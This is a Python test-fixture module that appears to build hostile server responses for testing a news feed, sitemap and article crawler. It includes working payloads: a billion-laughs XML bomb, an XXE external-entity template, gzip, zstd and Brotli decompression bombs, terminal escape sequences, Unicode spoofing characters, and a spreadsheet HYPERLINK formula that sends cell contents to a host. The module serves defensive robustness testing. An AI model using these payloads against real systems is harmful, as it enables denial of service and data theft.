"""What a hostile server has to give: small to keep, large or hard to read."""

import functools
import gzip
import json
import zlib

import zstandard

MIB = 1 << 20
WORDS = "Nepal has lifted its ban on TikTok, ministers said after a long debate in parliament on Thursday. " * 5
TITLE = "Nepal lifts its ban on TikTok"
# Of Brotli, for which there is no library here: a stream whose one block says that it is 16 MiB of what follows.
BROTLI = b"\x5b\xff\xff\xff" + bytes(64)
ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[31m"  # sets a terminal's title, wipes it, paints it red
REVERSAL = "\u202eevil\u2066 hidden\u200b"
FORMULA = '=HYPERLINK("http://10.0.0.1/?"&A1,"TikTok ban")'


def article(title: str = TITLE, head: str = "", body: str = "") -> bytes:
    """A page with an article on the beat, and whatever else stands in its head and before its text."""
    return (
        f"<!doctype html><html lang='en'><head><title>{title}</title>{head}</head>"
        f"<body><article><h1>{title}</h1>{body}<p>{WORDS}</p></article></body></html>"
    ).encode()


def rss(*items: str, head: str = "", title: str = "rude") -> bytes:
    """An RSS feed of these items."""
    return f'{head}<rss version="2.0"><channel><title>{title}</title>{"".join(items)}</channel></rss>'.encode()


def item(link: str, title: str = TITLE, more: str = "") -> str:
    """One of them; the link must need no escaping but ``&``."""
    return f"<item><title>{title}</title><link>{link.replace('&', '&amp;')}</link>{more}</item>"


def sitemap(link: str, head: str = "", title: str = TITLE) -> bytes:
    """A news sitemap of one page."""
    return (
        f'{head}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
        'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">'
        f"<url><loc>{link}</loc><news:news><news:title>{title}</news:title></news:news></url></urlset>"
    ).encode()


def index(*links: str) -> bytes:
    """A sitemap index."""
    listed = "".join(f"<sitemap><loc>{link}</loc></sitemap>" for link in links)
    return f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{listed}</sitemapindex>'.encode()


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
EXTERNAL = (
    '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{url}" [<!ENTITY % p SYSTEM "{url}">%p;<!ENTITY x SYSTEM "{url}">]>'
)


@functools.cache
def packed(coding: str, size: int = 200 * MIB) -> bytes:
    """A body of nothing but blanks in a few KB, by the coding it is packed in."""
    if coding == "zstd":
        return zstandard.compress(b" " * size)
    wbits = {"gzip": 31, "deflate": 15}[coding]
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    return b"".join(packer.compress(b" " * MIB) for _ in range(size // MIB)) + packer.flush()


def members(count: int) -> bytes:
    """Empty gzip files, one behind the other, then one that is not."""
    return gzip.compress(b"") * count + gzip.compress(article())


def nested_json(depth: int) -> str:
    """Objects within objects."""
    return '{"@graph":' * depth + "1" + "}" * depth


def json_feed(link: str, extra: str = "null") -> bytes:
    """A JSON Feed of one item."""
    one = json.dumps({"id": "1", "url": link, "title": TITLE})
    return f'{{"version":"https://jsonfeed.org/version/1.1","title":"rude","_x":{extra},"items":[{one}]}}'.encode()
